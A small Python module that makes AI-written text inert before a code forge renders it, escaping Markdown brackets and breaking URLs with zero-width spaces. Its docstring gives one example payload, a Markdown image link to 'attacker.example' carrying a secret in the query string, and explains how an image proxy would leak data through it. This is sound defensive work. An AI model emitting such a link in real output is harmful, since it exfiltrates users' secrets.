"""Model-written text made inert before a forge renders it: no link to follow, no image to load.

A forge renders Markdown in comments, the tracking comment and pull request bodies, and its
image proxy fetches every image it shows: `![x](https://attacker.example/?q=<secret>)` in text
the model wrote would send the secret out with no network tool at all. So brackets are escaped
(no Markdown link, image or reference definition forms) and URLs are broken for the autolinker
(`https:\u200b//…`, `www\u200b.…`): they stay readable as text and lead nowhere. HTML is escaped
by the callers (planner.ci.tracking.neutralize, planner.approval.render), so `<img>` is text too.
"""

from __future__ import annotations

import re

ZERO_WIDTH_SPACE = "\u200b"
SCHEME = re.compile(r"(?i)\b([a-z][a-z0-9+.\-]*):(?=//)")
WWW = re.compile(r"(?i)\bwww\.")
BRACKET = re.compile(r"(?<!\\)([\[\]])")


def inert_links(text: str) -> str:
    """`text` with no Markdown link, image or autolink left in it."""
    text = BRACKET.sub(r"\\\1", text)
    text = SCHEME.sub(lambda m: f"{m.group(1)}:{ZERO_WIDTH_SPACE}", text)
    return WWW.sub(f"www{ZERO_WIDTH_SPACE}.", text)
